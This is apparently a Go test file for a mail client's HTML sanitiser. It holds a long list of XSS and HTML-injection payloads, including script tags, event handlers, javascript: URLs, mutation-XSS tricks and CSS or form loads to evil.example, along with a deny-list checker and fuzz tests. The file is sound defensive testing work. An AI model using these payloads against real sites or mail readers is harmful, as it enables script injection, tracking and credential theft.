package page

import (
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// vectors are shapes in which a mail may try to run, fetch, submit or cover something.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x"onerror="alert(1)">`,
	`<img/src=x/onerror=alert(1)>`,
	"<img src=x\x00onerror=alert(1)>",
	"<img src=x on\x00error=alert(1)>",
	`<body onload=alert(1)>text`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<svg onload=alert(1)></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>`,
	`<svg><style><img src="</style><img src=x onerror=alert(1)>"></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#9;script:alert(1)">x</a>`,
	`<a href="java&#x0A;script:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="blob:https://desk.example/1">x</a>`,
	`<a href="/admin/delete?id=1">relative</a>`,
	`<a href="cid:x" ping="https://evil.example">x</a>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="data:text/html,x">`,
	`<img src="/api/logout">`,
	`<img srcset="https://evil.example/a 1x, javascript:alert(1) 2x">`,
	`<img data-remote-src="javascript:alert(1)">`,
	`<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">`,
	`<picture><source srcset="https://evil.example/a"><img src=x></picture>`,
	`<table background="https://evil.example/a"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
	`<body background="https://evil.example/a">x`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<applet code=x></applet>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<style>body{background:url(https://evil.example/a)}</style>x`,
	`<p style="background:url(https://evil.example/a)">x</p>`,
	`<p style="background-image:u\72l(https://evil.example/a)">x</p>`,
	`<p style="width:expression(alert(1))">x</p>`,
	`<p style="width:exp/**/ression(alert(1))">x</p>`,
	`<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>`,
	`<p style="behavior:url(x.htc)">x</p>`,
	`<p style="position:fixed;top:0;left:0;z-index:99999;width:100%;height:100%">over everything</p>`,
	`<p style="margin-top:-900px">up</p>`,
	`<p style="color:red;background:image-set('https://evil.example/a' 1x)">x</p>`,
	`<p style="font-family:'x';behavior:url(1)">x</p>`,
	`<p style="list-style:url(https://evil.example/a)">x</p>`,
	`<p style="color:var(--x, url(https://evil.example/a))">x</p>`,
	`<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)></textarea>`,
	`<select onfocus=alert(1)><option>x</select>`,
	`<video src="https://evil.example/a" onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<video><source onerror=alert(1)></video>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--!><img src=x onerror=alert(1)>`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><img src=x onerror=alert(1)>`,
	`<p title="><img src=x onerror=alert(1)>">x</p>`,
	"<p title=`><img src=x onerror=alert(1)>`>x</p>",
	`<a name="cookie" id="location">clobber</a>`,
	`<img name="getElementById" id="body">`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`<div class="modal-overlay admin-only">x</div>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	`<a href="https://ok.example" target="_self" rel="opener">x</a>`,
	`<table><td><a href="https://x.example"><table></a><img src=x onerror=alert(1)>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<portal src="https://evil.example"></portal>`,
	`<p onclick`,
	`<`,
	`<a href="https://user:pass@evil.example/` + "\u202e" + `">x</a>`,
}

// unsafe returns what is wrong with sanitised HTML when a browser's parser reads it.
func unsafe(s string) string {
	for _, context := range []atom.Atom{atom.Body, atom.Div} {
		nodes, err := xhtml.ParseFragment(strings.NewReader(s), &xhtml.Node{Type: xhtml.ElementNode, Data: context.String(), DataAtom: context})
		if err != nil {
			return err.Error()
		}
		for _, n := range nodes {
			if problem := unsafeNode(n); problem != "" {
				return problem
			}
		}
	}
	return ""
}

var forbidden = map[string]bool{
	"script": true, "style": true, "svg": true, "math": true, "iframe": true, "frame": true, "object": true, "embed": true, "applet": true, "form": true,
	"input": true, "button": true, "select": true, "textarea": true, "meta": true, "base": true, "link": true, "video": true, "audio": true, "source": true,
	"template": true, "noscript": true, "plaintext": true, "xmp": true, "title": true, "portal": true, "picture": true, "marquee": true,
}

func unsafeNode(n *xhtml.Node) string {
	if n.Type == xhtml.CommentNode {
		return "a comment"
	}
	if n.Type == xhtml.ElementNode {
		if forbidden[n.Data] || n.Namespace != "" {
			return "element " + n.Data
		}
		for _, a := range n.Attr {
			if p := unsafeAttr(n.Data, a.Key, strings.ToLower(strings.TrimSpace(a.Val))); p != "" {
				return p
			}
		}
		if n.Data == "a" && attr(n, "href") != "" && (attr(n, "target") != "_blank" || attr(n, "rel") != "noopener noreferrer nofollow") {
			return "a link that tells"
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if p := unsafeNode(c); p != "" {
			return p
		}
	}
	return ""
}

func unsafeAttr(element, key, val string) string {
	anyOf := func(prefixes ...string) bool {
		for _, p := range prefixes {
			if strings.HasPrefix(val, p) {
				return true
			}
		}
		return false
	}
	switch {
	case strings.HasPrefix(key, "on"), key == "srcset", key == "background", key == "name", key == "srcdoc", key == "action", key == "ping":
		return "attribute " + key
	case key == "href" && !anyOf("http://", "https://", "mailto:", "tel:"):
		return "href " + val
	case key == "src" && !(element == "img" && anyOf("cid:", "data:image/png;base64,", "data:image/jpeg;base64,", "data:image/gif;base64,", "data:image/webp;base64,")):
		return "src " + val
	case key == "data-remote-src" && !anyOf("http://", "https://"):
		return "data-remote-src " + val
	case key == "cite" && val != "" && !anyOf("http://", "https://"):
		return "cite " + val
	case key == "style":
		for _, word := range []string{"url", "expression", "position", "z-index", "behavior", "binding", "\\", "var(", "image", "import", "/*", "@"} {
			if strings.Contains(val, word) {
				return "style " + val
			}
		}
	case key == "id" && !knownID.MatchString(strings.TrimSpace(val)) && !strings.EqualFold(val, "divRplyFwdMsg"):
		for _, w := range strings.Fields(val) {
			if strings.HasPrefix(w, "loc") || w == "body" {
				return "id " + val
			}
		}
	}
	return ""
}

func TestSanitizeVectors(t *testing.T) { // MAIL-4
	for _, v := range vectors {
		got := Sanitize(v)
		if p := unsafe(got); p != "" {
			t.Errorf("%q became %q: %s", v, got, p)
		}
		if again := Sanitize(got); again != got {
			t.Errorf("%q: once %q, twice %q", v, got, again)
		}
	}
}

func TestSanitizeKeeps(t *testing.T) { // MAIL-4
	for _, c := range []struct{ name, in, want string }{
		{"formatting", `<p><b>bold</b> <i>it</i> <u>u</u> <s>s</s> <code>c</code></p>`, `<p><b>bold</b> <i>it</i> <u>u</u> <s>s</s> <code>c</code></p>`},
		{"lists", `<ol start="3"><li>a</li></ol>`, `<ol start="3"><li>a</li></ol>`},
		{"code", `<pre><code class="language-go x">a &lt; b</code></pre>`, `<pre><code class="language-go">a &lt; b</code></pre>`},
		{"quote", `<blockquote type="cite" class="gmail_quote evil">x</blockquote>`, `<blockquote type="cite" class="gmail_quote">x</blockquote>`},
		{"own picture", `<img src="cid:a@b" alt="">`, `<img src="cid:a@b" alt=""/>`},
		{"data picture", `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo="/>`},
		{"held picture", `<img src="https://x.example/a.png?b=1&amp;c=2">`, `<img data-remote-src="https://x.example/a.png?b=1&amp;c=2"/>`},
		{"held picture again", `<img data-remote-src="https://x.example/a.png"/>`, `<img data-remote-src="https://x.example/a.png"/>`},
		{"link", `<a href="https://x.example/?a=1">x</a>`, `<a href="https://x.example/?a=1" rel="noopener noreferrer nofollow" target="_blank">x</a>`},
		{"mail link", `<a href="mailto:a@x.example">x</a>`, `<a href="mailto:a@x.example" rel="noopener noreferrer nofollow" target="_blank">x</a>`},
		{"style", `<p style="color: red; position:absolute; padding : 3px">x</p>`, `<p style="color: red; padding: 3px">x</p>`},
		{"mention", `<span data-type="mention" data-id="7" class="mention">@Ada</span>`, `<span data-type="mention" data-id="7" class="mention">@Ada</span>`},
		{"unclosed", `<div><b>x`, `<div><b>x</b></div>`},
		{"nothing", " \n", ""},
	} {
		if got := Sanitize(c.in); got != c.want {
			t.Errorf("%s: got %s, want %s", c.name, got, c.want)
		}
	}
}

func TestSanitizeLosesNothingToStrayTags(t *testing.T) { // MAIL-4: elements that are dropped whole, unpaired
	for _, tag := range []string{"frameset", "iframe", "noembed", "noframes", "noscript", "object", "script", "style", "title"} {
		for name, in := range map[string]string{
			"an end too many":        "<p>one</p></" + tag + "><" + tag + ">gone</" + tag + "><p>two</p>",
			"two ends too many":      "</" + tag + "></" + tag + "><p>one</p><" + tag + ">gone</" + tag + "><p>two</p>",
			"an end of another kind": "<p>one</p></noscript><" + tag + ">gone</" + tag + "><p>two</p>",
			"a frame on its own":     "<p>one</p><frame src=x><" + tag + ">gone</" + tag + "><p>two</p>",
			"an end glued together":  "<p>one</p><</" + tag + ">script>alert(1)</script><p>two</p>",
		} {
			got := Sanitize(in)
			if !strings.Contains(got, "<p>one</p>") || !strings.Contains(got, "<p>two</p>") || strings.Contains(got, "gone") || unsafe(got) != "" {
				t.Errorf("%s, %s: %q", tag, name, got)
			}
		}
	}
}

func TestSanitizeBounds(t *testing.T) { // MAIL-4: huge ones
	deep := Sanitize(strings.Repeat("<div>", 5000) + "words" + strings.Repeat("</div>", 5000))
	if !strings.Contains(deep, "words") || unsafe(deep) != "" {
		t.Errorf("deep: %.100q", deep)
	}
	if long := Sanitize(strings.Repeat("<p>ä</p>", MaxHTML/4)); len(long) > 2*MaxHTML || unsafe(long) != "" {
		t.Errorf("long: %d bytes", len(long))
	}
}

func FuzzSanitize(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 64<<10 {
			return
		}
		got := Sanitize(s)
		if p := unsafe(got); p != "" {
			t.Fatalf("%q became %q: %s", s, got, p)
		}
		folded := Fold(got)
		if p := unsafe(folded); p != "" {
			t.Fatalf("%q folded to %q: %s", s, folded, p)
		}
		Fresh(Text(got), got)
	})
}
